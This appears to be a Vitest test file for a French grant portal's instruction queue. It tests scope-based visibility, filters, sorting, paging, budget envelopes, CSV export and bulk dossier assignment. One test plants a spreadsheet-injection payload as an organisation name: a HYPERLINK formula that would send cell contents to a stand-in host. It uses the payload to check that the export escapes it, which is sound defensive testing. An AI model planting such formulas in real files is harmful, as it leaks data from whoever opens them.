// The instructor's queue on a small world: what each instructor sees, every filter, the order and the pages,
// the neighbours a dossier view links to, the budget envelopes, the CSV export, and bulk assignment with
// its timeline entries and notifications.
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { parseQueueFilter } from "~/domain/instruction-queue";
import type { PrismaClient } from "~/generated/prisma/client";
import { DossierStatus, NotificationMode, SchemeCode, UserRole } from "~/generated/prisma/enums";
import { assignDossiers } from "~/services/instruction/assignment.server";
import { DossierError } from "~/services/applicant/dossiers.server";
import { loadQueue, queueCsv } from "~/services/instruction/queue.server";
import { queueNeighbours } from "~/services/instruction/queue-neighbours.server";

import { demoSiret } from "../../seeds/demo/identifiers";
import { paris } from "../../seeds/paris-time";
import { seedReference } from "../../seeds/reference";
import { createTestDatabase, databaseKinds, type TestDatabase } from "../support/database";

const APP_URL = "https://portail.example.fr";
const NOW = paris("2026-06-15T10:00");
const filter = (query = "") => parseQueueFilter(new URLSearchParams(query));

interface Person {
  id: string;
  role: UserRole;
}

describe.each(databaseKinds())("the instruction queue on %s", (kind) => {
  let database: TestDatabase;
  let db: PrismaClient;
  let admin: Person;
  let capAssoOnly: Person; // scope CAP ASSO, immediate emails
  let everything: Person; // scope all, daily digest
  let cherOnly: Person; // scope department 18
  let applicant: Person;
  const dossiers = new Map<string, string>(); // number → id
  let capAssoCallId: string;
  let echappeeSiret: string;
  let people = 0;

  async function person(firstName: string, lastName: string, role: UserRole, extra: object = {}) {
    people += 1;
    const user = await db.user.create({
      data: { email: `p${people}@example.fr`, passwordHash: "x", firstName, lastName, role, ...extra },
    });
    return { id: user.id, role };
  }

  async function organisation(name: string, siren: string, departmentCode: string) {
    return db.organisation.create({
      data: { name, legalForm: "ASSOCIATION", siret: demoSiret(siren, "0001"), departmentCode },
    });
  }

  beforeAll(async () => {
    database = await createTestDatabase(kind);
    db = database.db;
    await seedReference(db, NOW);
    admin = await person("Alix", "Admin", UserRole.ADMIN);
    capAssoOnly = await person("Camille", "Durand", UserRole.INSTRUCTOR, {
      instructorScope: {
        create: { schemes: [SchemeCode.CAP_ASSO], departmentCodes: [], territoryCodes: [] },
      },
    });
    everything = await person("Dominique", "Bernard", UserRole.INSTRUCTOR, {
      notificationMode: NotificationMode.DAILY_DIGEST,
      instructorScope: { create: { schemes: [], departmentCodes: [], territoryCodes: [] } },
    });
    cherOnly = await person("Sacha", "Petit", UserRole.INSTRUCTOR, {
      instructorScope: { create: { schemes: [], departmentCodes: ["18"], territoryCodes: [] } },
    });
    applicant = await person("Lou", "Porteur", UserRole.APPLICANT);

    const orgs = {
      echappee: await organisation("Echappee belle", "84100001", "45"),
      atelier: await organisation("Atelier du Cher", "84100002", "18"),
      zebre: await organisation("Zebre solidaire", "84100003", "37"),
    };
    echappeeSiret = orgs.echappee.siret!;
    const schemes = await db.scheme.findMany({
      include: { ruleSets: true, calls: { where: { year: 2026 } } },
    });
    const scheme = (code: SchemeCode) => schemes.find((row) => row.code === code)!;
    capAssoCallId = scheme(SchemeCode.CAP_ASSO).calls[0]!.id;
    const territory = await db.territory.findUniqueOrThrow({ where: { code: "18-bourges-plus" } });

    // number, scheme, organisation, department, status, requested €, filed on (Paris day)
    const rows: Array<[string, SchemeCode, keyof typeof orgs, string, DossierStatus, number, string]> = [
      ["CAPASSO-2026-00001", SchemeCode.CAP_ASSO, "echappee", "45", "FILED", 20_000, "2026-03-01T00:30"],
      ["CAPASSO-2026-00002", SchemeCode.CAP_ASSO, "atelier", "18", "UNDER_INSTRUCTION", 12_345, "2026-03-15"],
      ["CAPASSO-2026-00003", SchemeCode.CAP_ASSO, "zebre", "37", "GRANTED", 15_000, "2026-02-10"],
      ["CAPASSO-2026-00004", SchemeCode.CAP_ASSO, "echappee", "45", "PROPOSED", 8_000, "2026-04-02"],
      [
        "AVOSID-2026-00001",
        SchemeCode.A_VOS_ID,
        "atelier",
        "18",
        "CORRECTION_REQUESTED",
        40_000,
        "2026-03-31T23:30",
      ],
    ];
    for (const [number, code, org, department, status, euros, filed] of rows) {
      const s = scheme(code);
      const created = await db.dossier.create({
        data: {
          number,
          schemeId: s.id,
          schemeCode: code,
          ruleSetId: s.ruleSets[0]!.id,
          callId: s.calls[0]!.id,
          organisationId: orgs[org].id,
          createdById: applicant.id,
          status,
          title: `Projet ${number}`,
          requestedAmountCents: euros * 100,
          proposedAmountCents: status === "PROPOSED" || status === "GRANTED" ? euros * 100 - 100_000 : null,
          grantedAmountCents: status === "GRANTED" ? 1_234_500 : null,
          departmentCode: department,
          territoryId: code === SchemeCode.A_VOS_ID ? territory.id : null,
          filedAt: paris(filed),
        },
      });
      dossiers.set(number, created.id);
    }
    await db.correctionRequest.create({
      data: {
        dossierId: dossiers.get("AVOSID-2026-00001")!,
        requestedById: everything.id,
        reason: "Budget incomplet",
        replyBy: paris("2026-05-01T12:00"),
      },
    });
    // A draft is never in anybody's queue.
    const s = scheme(SchemeCode.CAP_ASSO);
    await db.dossier.create({
      data: {
        schemeId: s.id,
        schemeCode: SchemeCode.CAP_ASSO,
        ruleSetId: s.ruleSets[0]!.id,
        organisationId: orgs.echappee.id,
        createdById: applicant.id,
        title: "Brouillon",
        departmentCode: "45",
      },
    });
  });

  afterAll(async () => {
    await database?.close();
  });

  const numbers = (rows: Array<{ number: string | null }>) => rows.map((row) => row.number);

  it("shows each person the filed dossiers of their scope, never a draft", async () => {
    const all = await loadQueue(db, admin, filter());
    expect(all.total).toBe(5);
    expect(numbers(all.rows)).not.toContain(null);
    expect(all.countsByStatus).toEqual({
      FILED: 1,
      UNDER_INSTRUCTION: 1,
      GRANTED: 1,
      PROPOSED: 1,
      CORRECTION_REQUESTED: 1,
    });
    expect((await loadQueue(db, capAssoOnly, filter())).total).toBe(4);
    expect(numbers((await loadQueue(db, cherOnly, filter())).rows).sort()).toEqual([
      "AVOSID-2026-00001",
      "CAPASSO-2026-00002",
    ]);
    // An instructor without any scope sees nothing.
    const stranger = await person("Noa", "Sansperimetre", UserRole.INSTRUCTOR);
    expect((await loadQueue(db, stranger, filter())).total).toBe(0);
  });

  it("filters by scheme, status, department, territory, call and filing period (Paris days)", async () => {
    const got = async (query: string) => numbers((await loadQueue(db, admin, filter(query))).rows).sort();
    expect(await got("dispositif=a-vos-id")).toEqual(["AVOSID-2026-00001"]);
    expect(await got("statut=FILED&statut=PROPOSED")).toEqual(["CAPASSO-2026-00001", "CAPASSO-2026-00004"]);
    expect(await got("departement=18")).toEqual(["AVOSID-2026-00001", "CAPASSO-2026-00002"]);
    expect(await got("territoire=18-bourges-plus")).toEqual(["AVOSID-2026-00001"]);
    expect(await got(`appel=${capAssoCallId}`)).toHaveLength(4);
    // 1 March 00:30 in Paris is still 28 February in UTC; 31 March 23:30 in Paris is 1 April in UTC.
    expect(await got("depose_du=2026-03-01&depose_au=2026-03-31")).toEqual([
      "AVOSID-2026-00001",
      "CAPASSO-2026-00001",
      "CAPASSO-2026-00002",
    ]);
  });

  it("keeps the status counts across the status filter, for the tabs", async () => {
    const queue = await loadQueue(db, admin, filter("dispositif=cap-asso&statut=FILED"));
    expect(queue.total).toBe(1);
    expect(queue.countsByStatus).toEqual({ FILED: 1, UNDER_INSTRUCTION: 1, GRANTED: 1, PROPOSED: 1 });
  });

  it("finds a dossier by number, organisation name (any case) or SIRET typed with spaces", async () => {
    const got = async (q: string) =>
      numbers((await loadQueue(db, admin, filter(`q=${encodeURIComponent(q)}`))).rows).sort();
    expect(await got("capasso-2026-00003")).toEqual(["CAPASSO-2026-00003"]);
    expect(await got("ZEBRE")).toEqual(["CAPASSO-2026-00003"]);
    expect(await got("atelier DU")).toEqual(["AVOSID-2026-00001", "CAPASSO-2026-00002"]);
    const siren = echappeeSiret.slice(0, 9);
    expect(await got(`${siren.slice(0, 3)} ${siren.slice(3, 6)} ${siren.slice(6)}`)).toEqual([
      "CAPASSO-2026-00001",
      "CAPASSO-2026-00004",
    ]);
  });

  it("sorts, pages and tells where a dossier stands among its neighbours", async () => {
    const order = async (tri: string) => numbers((await loadQueue(db, admin, filter(`tri=${tri}`))).rows);
    expect(await order("depot_desc")).toEqual([
      "CAPASSO-2026-00004",
      "AVOSID-2026-00001",
      "CAPASSO-2026-00002",
      "CAPASSO-2026-00001",
      "CAPASSO-2026-00003",
    ]);
    expect((await order("montant_asc"))[0]).toBe("CAPASSO-2026-00004");
    expect((await order("montant_desc"))[0]).toBe("AVOSID-2026-00001");
    expect((await order("numero"))[0]).toBe("AVOSID-2026-00001");
    expect((await order("organisation")).slice(0, 2).sort()).toEqual([
      "AVOSID-2026-00001",
      "CAPASSO-2026-00002",
    ]);

    const neighbours = await queueNeighbours(db, admin, filter(), dossiers.get("CAPASSO-2026-00002")!);
    expect(neighbours).toEqual({
      previousId: dossiers.get("AVOSID-2026-00001"),
      nextId: dossiers.get("CAPASSO-2026-00001"),
      position: 3,
      total: 5,
    });
    const first = await queueNeighbours(
      db,
      admin,
      filter("tri=depot_asc"),
      dossiers.get("CAPASSO-2026-00003")!,
    );
    expect(first).toMatchObject({ previousId: null, position: 1 });
    const outside = await queueNeighbours(db, cherOnly, filter(), dossiers.get("CAPASSO-2026-00001")!);
    expect(outside).toEqual({ previousId: null, nextId: null, position: null, total: 2 });
  });

  it("pages by 25 with a stable order, and shows the last page when asked for one too far", async () => {
    const s = await db.scheme.findUniqueOrThrow({
      where: { code: SchemeCode.EQUITY_ADVANCE },
      include: { ruleSets: true },
    });
    const org = await organisation("Avances en serie", "84100004", "41");
    const sameDay = paris("2026-05-05T09:00");
    await db.dossier.createMany({
      data: Array.from({ length: 30 }, (_, index) => ({
        number: `AVANCE-2026-${String(index + 1).padStart(5, "0")}`,
        schemeId: s.id,
        schemeCode: SchemeCode.EQUITY_ADVANCE,
        ruleSetId: s.ruleSets[0]!.id,
        organisationId: org.id,
        createdById: applicant.id,
        status: DossierStatus.FILED,
        title: `Avance ${index + 1}`,
        departmentCode: "41",
        filedAt: sameDay,
      })),
    });
    const pageOne = await loadQueue(db, admin, filter("dispositif=avance-fonds-propres"));
    const pageTwo = await loadQueue(db, admin, filter("dispositif=avance-fonds-propres&page=2"));
    expect([pageOne.total, pageOne.pageCount, pageOne.rows.length, pageTwo.rows.length]).toEqual([
      30, 2, 25, 5,
    ]);
    const seen = new Set([...pageOne.rows, ...pageTwo.rows].map((row) => row.id));
    expect(seen.size).toBe(30);
    const tooFar = await loadQueue(db, admin, filter("dispositif=avance-fonds-propres&page=9"));
    expect(tooFar.page).toBe(2);
    expect(tooFar.rows.map((row) => row.id)).toEqual(pageTwo.rows.map((row) => row.id));
    await db.dossier.deleteMany({ where: { organisationId: org.id } });
  });

  it("shows the open correction's reply date and the options of the filter form", async () => {
    const queue = await loadQueue(db, admin, filter("dispositif=a-vos-id"));
    expect(queue.rows[0]!.correctionReplyBy?.toISOString()).toBe(paris("2026-05-01T12:00").toISOString());
    expect(queue.rows[0]!.territory).toBe("Bourges Plus");
    expect(queue.options.instructors.map((user) => user.name)).toEqual(
      expect.arrayContaining(["Camille Durand", "Dominique Bernard", "Sacha Petit"]),
    );
    expect(queue.options.schemes.map((scheme) => scheme.slug).sort()).toEqual([
      "a-vos-id",
      "avance-fonds-propres",
      "cap-asso",
      "cap-scop-scic",
    ]);
  });

  it("subtracts what the Commission granted from the call's envelope", async () => {
    const queue = await loadQueue(db, capAssoOnly, filter("dispositif=cap-asso"));
    const call = queue.envelopes.find((envelope) => envelope.callId === capAssoCallId)!;
    expect(call).toMatchObject({
      envelopeCents: 900_000_000,
      votedCents: 1_234_500,
      proposedCents: 700_000,
      remainingCents: 900_000_000 - 1_234_500,
    });
  });

  it("exports the whole selection as a French CSV", async () => {
    const csv = await queueCsv(db, admin, filter("dispositif=cap-asso&tri=numero"));
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).trimEnd().split("\r\n");
    expect(lines[0]).toBe(
      "Numéro;Organisation;SIRET;Projet;Dispositif;Département;Territoire;Statut;Instructeur;" +
        "Montant demandé (€);Montant proposé (€);Montant accordé (€);Déposé le",
    );
    expect(lines).toHaveLength(5);
    expect(lines[3]).toContain(";Accordé;;15000,00;14000,00;12345,00;10/02/2026");
    expect(lines[1]).toMatch(/^CAPASSO-2026-00001;Echappee belle;\d{14};/);
    // Scope applies to exports too.
    expect((await queueCsv(db, cherOnly, filter())).trimEnd().split("\r\n")).toHaveLength(3);
  });

  it("writes a name typed as a formula as text, so the spreadsheet that opens the export never runs it", async () => {
    const dossier = await db.dossier.findUniqueOrThrow({
      where: { id: dossiers.get("CAPASSO-2026-00001")! },
      select: { organisationId: true, organisation: { select: { name: true } } },
    });
    const hostile = '=HYPERLINK("https://exemple.invalid/?q="&A1;"Voir")';
    await db.organisation.update({ where: { id: dossier.organisationId }, data: { name: hostile } });
    try {
      const csv = await queueCsv(db, admin, filter("dispositif=cap-asso&tri=numero"));
      const line = csv.split("\r\n").find((row) => row.startsWith("CAPASSO-2026-00001;"))!;
      expect(line).toContain(`;"'=HYPERLINK(""https://exemple.invalid/?q=""&A1;""Voir"")";`);
      // Amounts stay numbers.
      expect(csv).toContain(";12345,00;");
    } finally {
      await db.organisation.update({
        where: { id: dossier.organisationId },
        data: { name: dossier.organisation.name },
      });
    }
  });

  it("entrusts dossiers in one go: timeline, revision and one notification per batch", async () => {
    const ids = ["CAPASSO-2026-00001", "CAPASSO-2026-00002"].map((number) => dossiers.get(number)!);
    const before = await db.dossier.findMany({ where: { id: { in: ids } }, select: { revision: true } });
    const result = await assignDossiers(db, {
      actor: admin,
      dossierIds: ids,
      assigneeId: capAssoOnly.id,
      now: NOW,
      appUrl: APP_URL,
    });
    expect(result).toEqual({ assigned: 2 });
    const after = await db.dossier.findMany({
      where: { id: { in: ids } },
      select: { assigneeId: true, revision: true },
    });
    expect(after.map((row) => row.assigneeId)).toEqual([capAssoOnly.id, capAssoOnly.id]);
    expect(after.map((row) => row.revision).sort()).toEqual(before.map((row) => row.revision + 1).sort());
    const events = await db.dossierEvent.findMany({ where: { dossierId: { in: ids }, kind: "ASSIGNMENT" } });
    expect(events).toHaveLength(2);
    expect(events[0]).toMatchObject({ actorId: admin.id, reason: "Dossier confié à Camille Durand" });
    expect(events[0]!.data).toEqual({ fromId: null, toId: capAssoOnly.id });
    // Camille chose immediate emails: one email for both dossiers.
    const mails = await db.outboxEmail.findMany({ where: { template: "dossier-assigned" } });
    expect(mails).toHaveLength(1);
    expect(mails[0]!.subject).toBe("2 dossiers vous sont confiés");
    expect(mails[0]!.text).toContain("CAPASSO-2026-00001");
    expect(mails[0]!.text).toContain("CAPASSO-2026-00002");
    expect(numbers((await loadQueue(db, capAssoOnly, filter("instructeur=moi"))).rows).sort()).toEqual([
      "CAPASSO-2026-00001",
      "CAPASSO-2026-00002",
    ]);

    // Again to the same person: nothing changes, nobody is notified twice.
    const again = await assignDossiers(db, {
      actor: admin,
      dossierIds: ids,
      assigneeId: capAssoOnly.id,
      now: NOW,
      appUrl: APP_URL,
    });
    expect(again).toEqual({ assigned: 0 });
    expect(await db.outboxEmail.count({ where: { template: "dossier-assigned" } })).toBe(1);
  });

  it("keeps the notification for the digest of an instructor who chose it, and records a withdrawal", async () => {
    const id = dossiers.get("AVOSID-2026-00001")!;
    await assignDossiers(db, {
      actor: cherOnly,
      dossierIds: [id],
      assigneeId: everything.id,
      now: NOW,
      appUrl: APP_URL,
    });
    const items = await db.digestItem.findMany({ where: { userId: everything.id } });
    expect(items).toHaveLength(1);
    expect(items[0]).toMatchObject({
      dossierId: id,
      line: "AVOSID-2026-00001 : dossier confié par Sacha Petit",
    });
    expect(items[0]!.url).toBe(`${APP_URL}/instruction/dossiers/${id}`);

    await assignDossiers(db, {
      actor: cherOnly,
      dossierIds: [id],
      assigneeId: null,
      now: NOW,
      appUrl: APP_URL,
    });
    expect((await db.dossier.findUniqueOrThrow({ where: { id } })).assigneeId).toBeNull();
    const reasons = (await db.dossierEvent.findMany({ where: { dossierId: id, kind: "ASSIGNMENT" } })).map(
      (e) => e.reason,
    );
    expect(reasons).toContain("Dossier retiré à Dominique Bernard");
  });

  it("refuses, changing nothing, dossiers outside the actor's scope or the assignee's", async () => {
    const capAsso = dossiers.get("CAPASSO-2026-00004")!;
    const aVosId = dossiers.get("AVOSID-2026-00001")!;
    const attempt = (actor: Person, ids: string[], assigneeId: string | null) =>
      assignDossiers(db, { actor, dossierIds: ids, assigneeId, now: NOW, appUrl: APP_URL }).then(
        () => null,
        (error: unknown) => error,
      );

    const outOfScope = await attempt(capAssoOnly, [capAsso, aVosId], capAssoOnly.id);
    expect(outOfScope).toBeInstanceOf(DossierError);
    expect((outOfScope as DossierError).status).toBe(403);
    expect((outOfScope as DossierError).message).toBe(
      "1 dossier sélectionné est hors de votre périmètre ou introuvable : aucun dossier n’a été confié.",
    );
    const wrongAssignee = await attempt(admin, [capAsso], cherOnly.id);
    expect((wrongAssignee as DossierError).status).toBe(422);
    expect((wrongAssignee as DossierError).message).toContain(
      "Sacha Petit ne peut pas instruire le dossier CAPASSO-2026-00004",
    );
    const notInstructor = await attempt(admin, [capAsso], applicant.id);
    expect((notInstructor as DossierError).message).toBe(
      "La personne choisie n’est pas un·e instructeur·rice en activité.",
    );
    expect((await attempt(admin, [], capAssoOnly.id)) as DossierError).toBeInstanceOf(DossierError);

    expect((await db.dossier.findUniqueOrThrow({ where: { id: capAsso } })).assigneeId).toBeNull();
    expect(await db.dossierEvent.count({ where: { dossierId: capAsso, kind: "ASSIGNMENT" } })).toBe(0);
  });

  it("tells a new instructor whose scope is not set, and which admins set it", async () => {
    const newcomer = await person("Noa", "Nouveau", UserRole.INSTRUCTOR);
    const queue = await loadQueue(db, newcomer, filter());
    expect(queue.total).toBe(0);
    expect(queue.missingScope).toEqual({ admins: [{ name: "Alix Admin", email: "p1@example.fr" }] });
    // Someone with a scope, even one the filter empties, is simply told nothing matches.
    expect((await loadQueue(db, cherOnly, filter("q=introuvable"))).missingScope).toBeNull();
    expect((await loadQueue(db, admin, filter("q=introuvable"))).missingScope).toBeNull();
  });
});
